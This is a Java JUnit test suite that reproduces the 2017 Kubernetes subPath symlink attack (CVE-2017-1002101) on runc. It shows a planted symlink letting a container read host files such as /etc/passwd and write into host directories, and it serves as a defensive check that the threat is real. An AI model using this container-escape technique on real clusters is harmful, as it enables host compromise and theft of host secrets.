package dev.beneath.lab.runtime;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The 2017 subPath attack (CVE-2017-1002101), run for real: a container plants a symlink in
 * its volume, and the pre-2018 node agent hands the string {@code volume/evil} to the runtime
 * as a bind source. runc resolves that string on the host, following the link, so the next
 * container sees host files. These tests assert that the attack works, so that the suite
 * knows the threat the subPath mechanism defends against is real here.
 */
class RuncSubPathAttackTest extends RuncFixture {
    private Path volume;
    private Path outside;
    private String secret;

    @BeforeEach
    void scene() throws IOException {
        volume = Files.createDirectory(scratch.resolve("volume"));
        outside = Files.createDirectory(scratch.resolve("host-only"));
        secret = "host secret " + UUID.randomUUID();
        Files.writeString(outside.resolve("secret.txt"), secret + "\n");
    }

    /** The untrusted pod, in its own container, plants {@code evil -> target} in its volume. */
    private void plant(String target) throws Exception {
        ContainerResult r = run(ContainerSpec.shell("ln -s \"$TARGET\" /vol/evil")
                .withEnv("TARGET=" + target)
                .withMounts(OciMount.bind(volume, "/vol", false)));
        assertEquals(0, r.exitCode(), r::describe);
        assertEquals(target, Files.readSymbolicLink(volume.resolve("evil")).toString());
    }

    /** The naive node agent: the subPath joined to the volume as a string, handed to runc. */
    private ContainerResult naiveSubPath(String script) throws Exception {
        Path naive = Path.of(volume + "/evil");
        return run(ContainerSpec.shell(script).withMounts(OciMount.bind(naive, "/mnt/sub", false)));
    }

    @Test
    void linkToTheHostRootExposesTheHost() throws Exception {
        plant("/");
        ContainerResult r = naiveSubPath("cat /mnt/sub" + outside.resolve("secret.txt"));
        assertEquals(0, r.exitCode(), r::describe);
        assertEquals(secret + "\n", r.stdout(), "the container read a host file outside its volume");
    }

    @Test
    void linkToTheHostEtcExposesTheHostEtc() throws Exception {
        Path hostFile = Files.isRegularFile(Path.of("/etc/hostname")) ? Path.of("/etc/hostname")
                : Path.of("/etc/passwd");
        plant("/etc");
        ContainerResult r = naiveSubPath("cat /mnt/sub/" + hostFile.getFileName());
        assertEquals(0, r.exitCode(), r::describe);
        assertEquals(Files.readString(hostFile), r.stdout(), "the container read the host's " + hostFile);
        System.out.println("container read the host's " + hostFile + ": " + r.stdout().strip());
    }

    @Test
    void linkToAHostDirectoryGivesReadAndWriteAccessToIt() throws Exception {
        plant(outside.toString());
        ContainerResult r = naiveSubPath("cat /mnt/sub/secret.txt && echo owned > /mnt/sub/planted.txt");
        assertEquals(0, r.exitCode(), r::describe);
        assertEquals(secret + "\n", r.stdout());
        assertEquals("owned\n", Files.readString(outside.resolve("planted.txt")),
                "the container wrote into a host directory outside its volume");
        assertFalse(Files.exists(volume.resolve("secret.txt"), LinkOption.NOFOLLOW_LINKS));
    }

    @Test
    void withoutTheLinkTheVolumeHoldsOnlyWhatThePodWrote() throws Exception {
        ContainerResult r = run(ContainerSpec.shell("mkdir /vol/sub && echo mine > /vol/sub/f && ls /vol")
                .withMounts(OciMount.bind(volume, "/vol", false)));
        assertEquals(0, r.exitCode(), r::describe);
        assertEquals("sub\n", r.stdout());
        ContainerResult s = naiveSubPath("true");
        assertTrue(s.exitCode() != 0 && s.stderr().contains("no such file or directory"),
                "no evil link, nothing to mount: " + s.describe());
    }
}
